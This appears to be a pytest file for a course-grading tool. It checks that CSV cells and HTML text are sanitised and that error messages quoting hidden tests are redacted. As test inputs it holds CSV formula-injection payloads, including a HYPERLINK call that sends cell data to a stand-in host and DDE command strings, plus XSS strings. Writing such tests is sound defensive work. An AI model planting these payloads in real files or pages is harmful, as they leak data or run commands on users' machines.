"""Names and messages made safe for CSV (no formulas) and HTML (no markup), and error messages
that quote the hidden tests kept from students."""
from __future__ import annotations

import csv
import io
import re

import pytest

from course_grader.grading.safe_text import QUOTED, HiddenCode, _code_only, csv_cell, error_parts, html_text
from course_grader.notebook import HIDDEN_RE
from tests.conftest import assignments
from tests.helpers import release_nb, source_nb


@pytest.mark.parametrize("value, expected", [
    ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("=1", "'=1"),
    ("-", "'-"),
])
def test_formulas_are_neutralised(value, expected):
    assert csv_cell(value) == expected


@pytest.mark.parametrize("value", ["alice", "a=b", "x+1", "", "O'Brien", "12", "-3", "+1.5", "-0.25e3",
                                   ".5", "20/24", "ok"])
def test_plain_values_are_kept(value):
    assert csv_cell(value) == value


def test_numbers_and_none():
    assert csv_cell(-3) == "-3"
    assert csv_cell(2.5) == "2.5"
    assert csv_cell(None) == ""


def test_a_neutralised_cell_survives_the_csv_writer():
    buffer = io.StringIO()
    csv.writer(buffer).writerow([csv_cell('=HYPERLINK("x","y")'), csv_cell("bob")])
    [row] = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert row == ['\'=HYPERLINK("x","y")', "bob"]


def test_html_is_escaped():
    assert html_text("<img src=x onerror=alert(1)>") == "&lt;img src=x onerror=alert(1)&gt;"
    assert html_text('"><script>alert(1)</script>') == "&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;"
    assert html_text("O'Brien & co") == "O&#x27;Brien &amp; co"
    assert html_text(None) == ""
    assert html_text(3) == "3"


# ---- error messages that quote the hidden tests (issue 12: no leaks) ----

@pytest.mark.parametrize("assignment", assignments())
def test_a_message_quoting_the_hidden_tests_is_recognised_however_it_is_spaced(settings, assignment):
    source = source_nb(settings, assignment)
    hidden = HiddenCode(source, release_nb(settings, assignment))
    code = "\n".join(_code_only(m.group(0)) for c in source.cells for m in HIDDEN_RE.finditer(c.source))
    secret = [line for line in code.splitlines() if hidden.quotes(line)]     # not in the release too
    longest = max(secret, key=lambda line: len(re.sub(r"[^0-9a-z]", "", line.lower())))
    assert len(re.sub(r"[^0-9a-z]", "", longest.lower())) >= 30, longest
    for text in (longest, " ".join(longest.split()), longest.upper(),
                 "".join(ch if ch.isalnum() else "_" for ch in longest)):
        assert hidden.quotes(text), text
        assert error_parts("ValueError", "see: " + text, hidden) == ("ValueError", QUOTED)
    # an exception's name made of a hidden line (an identifier of 50 characters): one whose start
    # is not also in the release (cpu_vs_gpu's longest hidden line starts as a visible import)
    names = ["".join(ch if ch.isalnum() else "_" for ch in line)[:50] for line in sorted(secret, key=len, reverse=True)]
    name = next((name for name in names if len(re.sub(r"[^0-9a-z]", "", name.lower())) >= 30 and hidden.quotes(name)),
                None)
    assert name is not None, f"{assignment}: no hidden line whose first 50 characters quote the hidden tests alone"
    assert error_parts(name, "x", hidden)[0] == "Exception"


@pytest.mark.parametrize("assignment", assignments())
def test_the_messages_students_meet_are_shown_as_they_are(settings, assignment):
    """The release's stub messages, the visible tests' text and torch's errors are not quotes."""
    source, release = source_nb(settings, assignment), release_nb(settings, assignment)
    hidden = HiddenCode(source, release)
    stubs = [line.strip() for c in release.cells for line in c.source.splitlines() if "NotImplementedError" in line]
    visible = [line for c in release.cells for line in c.source.splitlines() if len(line.strip()) > 30]
    for text in stubs + visible + [
            "The size of tensor a (5) must match the size of tensor b (4) at non-singleton dimension 3",
            "mat1 and mat2 shapes cannot be multiplied (64x784 and 400x10)",
            "expected scalar type Double but found Float"]:
        assert error_parts("RuntimeError", text, hidden) == ("RuntimeError", text), text


def test_the_hidden_tests_own_strings_may_be_shown(settings):
    """Record names and the hidden asserts' messages are written for the student: an assert of a
    hidden test that fails shows its message (with the record's label in it)."""
    source = source_nb(settings, "pooling")
    hidden = HiddenCode(source, release_nb(settings, "pooling"))
    message = "avgpool2d: (2, 4) window, stride (2, 3), input 9x11: does not match F.avg_pool2d"
    assert error_parts("AssertionError", message, hidden) == ("AssertionError", message)
    assert hidden.quotes("x = torch.randn(shape, generator=g, dtype=torch.float64)")


def test_exception_names_must_be_plain_identifiers():
    assert error_parts("torch.OutOfMemoryError", "m", None) == ("torch.OutOfMemoryError", "m")
    for name in ("a b", "x" * 61, "<script>", "", "1abc", "a." * 6 + "b"):
        assert error_parts(name, "m", None) == ("Exception", "m"), name
